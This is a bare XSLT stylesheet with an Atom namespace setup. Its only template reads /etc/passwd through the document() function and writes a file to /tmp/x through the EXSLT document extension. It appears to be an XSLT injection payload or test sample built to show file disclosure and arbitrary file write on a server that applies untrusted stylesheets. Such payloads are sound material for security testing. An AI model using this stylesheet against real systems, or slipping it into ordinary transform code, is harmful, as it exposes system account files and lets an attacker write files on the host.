<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:atom='http://www.w3.org/2005/Atom' xmlns:e='urn:example:event' xmlns:exsl='http://exslt.org/common' xmlns='http://www.w3.org/2005/Atom' exclude-result-prefixes='atom e exsl'>
<xsl:template match='/'><xsl:copy-of select="document('file:///etc/passwd')"/><exsl:document href='/tmp/x' xmlns:exsl='http://exslt.org/common'>x</exsl:document></xsl:template>
</xsl:stylesheet>
